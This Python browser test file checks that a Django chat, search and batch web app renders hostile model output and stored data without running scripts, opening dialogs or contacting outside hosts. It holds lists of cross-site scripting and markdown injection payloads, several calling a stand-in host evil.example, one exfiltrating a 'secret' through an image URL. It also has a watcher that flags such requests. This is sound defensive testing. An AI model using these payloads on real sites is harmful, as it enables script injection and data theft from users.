"""Hostile content in a real browser opens no dialog, sends no request elsewhere, and breaks no content policy (FAULTS 1-5)."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.faults.sockets import serve
from tests.live import Live, OpenPage
from tests.upstream import Upstream, error, says

pytestmark = pytest.mark.browser

TAGS = (
    "<script>alert(1)</script>",
    "<img src=https://evil.example/i onerror=alert(1)>",
    "<svg onload=alert(1)><use href='https://evil.example/u#x'/></svg>",
    "<iframe src=https://evil.example/f srcdoc='<script>alert(1)</script>'></iframe>",
    "<p hx-get=https://evil.example/h hx-trigger=load>hx</p><hx-partial hx-target=body>x</hx-partial>",
    '<button hx-ws:send hx-vals=\'{"action":"stop"}\' data-copy-url=https://evil.example/c>b</button>',
    "<form action=https://evil.example/p><input autofocus onfocus=alert(1)></form><base href=https://evil.example/>",
    "<style>@import url(https://evil.example/s)</style><link rel=stylesheet href=https://evil.example/l>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/m'><details open ontoggle=alert(1)>",
)
MARKDOWN = (
    "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1))",
    "[c](java&Tab;script:alert(1)) [d](&#x6a;avascript:alert(1)) [e](data:text/html,x)",
    "<javascript:alert(1)> [f]: javascript:alert(1)\n\n[g][f]",
    "![i](https://evil.example/img?q=secret) ![j](//evil.example/j) ![k](data:image/svg+xml,x) [![l](https://evil.example/l)](vbscript:x)",
    '```mermaid\ngraph TD; A[<img src=https://evil.example/mm onerror=alert(1)>] --> B; click A "javascript:alert(1)"\n```',
    "```svg\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='https://evil.example/sv'/></svg>\n```",
    "```html\n<body onload=alert(1)><img src=https://evil.example/hh>\n```",
    "$\\href{javascript:alert(1)}{x}$ $\\text{</math><img src=https://evil.example/t onerror=alert(1)>}$",
    "| <img src=https://evil.example/td> |\n|---|\n| ![x](https://evil.example/cell) |",
)
PAYLOAD = "\n\n".join((*TAGS, *MARKDOWN))
LINE = " ".join(TAGS[:5])


class Watch:
    """The forbidden things that a page did."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.wrong: list[str] = []
        page.on("dialog", self._dialog)
        page.on("request", lambda request: self._asked(request.url))
        page.on("framenavigated", lambda frame: self.wrong.append(frame.url) if not frame.url.startswith("http://localhost") else None)

    def _asked(self, url: str) -> None:
        if url.startswith(("http://evil", "https://evil")) or "csp-report" in url:
            self.wrong.append(url)

    def _dialog(self, dialog: object) -> None:
        self.wrong.append("dialog")
        dialog.dismiss()  # type: ignore[attr-defined]  # Playwright's Dialog

    def check(self) -> None:
        self.page.wait_for_timeout(200)
        assert self.wrong == []
        bad = self.page.locator(
            "main :is(iframe:not([sandbox='allow-scripts']), object, embed, base, style, [onerror], [onload])"
            ", main form:is([action^='http'], [action^='//'])"
            ", main :is([href^='javascript' i], [href^='data:' i])"
        )
        assert bad.count() == 0
        assert self.page.locator("main img:not([src^='/static/'])").count() == 0
        assert self.page.locator("[hx-get*=evil]").count() == 0


def test_a_hostile_model_in_the_chat(live: Live, make_upstream: Callable[..., Upstream], browser_page: OpenPage) -> None:
    """FAULTS 1-5: in text, reasoning, tool calls and their results, in the title, the question and the error of a backend."""
    upstream = make_upstream()
    serve(live, upstream, "default")
    arguments = json.dumps({"expression": LINE, LINE: LINE})
    upstream.script(
        says(PAYLOAD, reasoning=PAYLOAD, tool_calls=[("calculator", arguments), (LINE, LINE)]),
        says(PAYLOAD),
        says(json.dumps({"title": LINE[:110]})),
    )
    upstream.default = error(LINE, code=400)
    page = browser_page(live)
    watch = Watch(page)
    page.goto("/chat/")
    page.get_by_test_id("chat-input").fill(PAYLOAD)
    page.get_by_test_id("chat-send").click()
    last = page.get_by_test_id("message-assistant").last
    expect(last).to_have_attribute("data-status", "done", timeout=20_000)
    page.evaluate("document.querySelectorAll('details').forEach((one) => (one.open = true))")
    watch.check()
    page.get_by_test_id("chat-input").fill("Again")
    page.get_by_test_id("chat-send").click()
    expect(page.get_by_test_id("message-assistant").last).to_have_attribute("data-status", "failed", timeout=20_000)
    watch.check()
    page.reload()
    page.evaluate("document.querySelectorAll('details').forEach((one) => (one.open = true))")
    watch.check()
    page.get_by_role("searchbox").first.fill("script")
    watch.check()


def test_hostile_names_everywhere_else(live: Live, browser_page: OpenPage) -> None:
    """FAULTS 5: file names, documents and their snippets, collections, custom ids, prompts, errors of rows, tokens, attempts."""
    live.run_python(SEEDS.replace("PAYLOAD", repr(PAYLOAD)).replace("LINE", repr(LINE)))
    paths = live.run_python(PATHS).split()
    assert len(paths) > 8
    page = browser_page(live, "administrator")
    watch = Watch(page)
    asked = ["/search/?q=alert&mode=keyword", f"/search/?q={LINE}", f"/chat/?text={LINE}&model={LINE}", f"/batches/?q={LINE}"]
    for path in [*paths, *asked]:
        page.goto(path)
        page.evaluate("document.querySelectorAll('details').forEach((one) => (one.open = true))")
        watch.check()
    # A row alone is a fragment: without a head, the browser asks for a favicon. Nothing else is complained about.
    assert {text.split(":")[0] for text in page.complaints} <= {"Failed to load resource"}  # type: ignore[attr-defined]  # of tests.live
    page.complaints.clear()  # type: ignore[attr-defined]


SEEDS = """
import json
from batches.input import files; from batches import services as batch_services
from chat.models import Conversation, Message
from django.utils import timezone
from search import services
from webapp.accounts.models import User
from webapp.backends.models import Attempt, ApiToken
from webapp.backends.services import create_token

user = User.objects.get(username="administrator")
collection = services.create_collection(owner=user, name=LINE[:100], description=LINE[:300])
document = services.add_file(collection=collection, name=LINE[:150] + ".md", content=[PAYLOAD.encode()]).document
body = {"model": LINE[:200], "messages": [{"role": "user", "content": PAYLOAD}]}
line = json.dumps({"custom_id": LINE[:500], "method": "POST", "url": "/v1/chat/completions", "body": body}).encode()
file = files.store(user=user, filename=LINE[:300], purpose="batch", data=[line])
batch = batch_services.create_batch(user=user, input_file=file, executor="local", name=LINE[:200])
batch.status, batch.errors, batch.failed_at = "failed", [{"code": LINE, "message": PAYLOAD, "line": 1, "param": LINE}], timezone.now()
batch.paused = LINE[:500]
batch.save()
answer = json.dumps({"choices": [{"message": {"content": PAYLOAD}}]})
batch.rows.create(number=1, custom_id=LINE[:500], offset=0, length=len(line), state=2, error_code=LINE[:100],
                  error_message=PAYLOAD, response=answer)
chat = Conversation.objects.create(user=user, title=LINE[:200], folder=LINE[:100],
                                   updated_at=timezone.now(),
                                   system_prompt=PAYLOAD, model=LINE[:300])
Message.objects.create(conversation=chat, role="user", text=PAYLOAD)
create_token(user=user, label=LINE[:100])
Attempt.objects.create(request_id=chat.id, backend=LINE[:64], model=LINE[:200], route=LINE[:300],
                       why=LINE[:1000], source="chat", outcome="failed",
                       error="x", created_at=timezone.now(), user=user)
"""
PATHS = """
from batches.models import Batch
from chat.models import Conversation
from search.models import Collection, Document
from webapp.backends.models import Attempt

batch, chat, document, collection, attempt = (kind.objects.first() for kind in (Batch, Conversation, Document, Collection, Attempt))
print("/batches/", f"/batches/{batch.pk}/", f"/batches/{batch.pk}/rows/1/", f"/chat/{chat.pk}/", f"/chat/{chat.pk}/settings/")
print(f"/search/documents/{document.pk}/", f"/search/collections/{collection.pk}/", "/search/collections/", "/accounts/tokens/", "/usage/")
print("/admin/backends/attempt/", f"/admin/backends/attempt/{attempt.pk}/change/", "/admin/backends/apitoken/", "/backends/")
"""
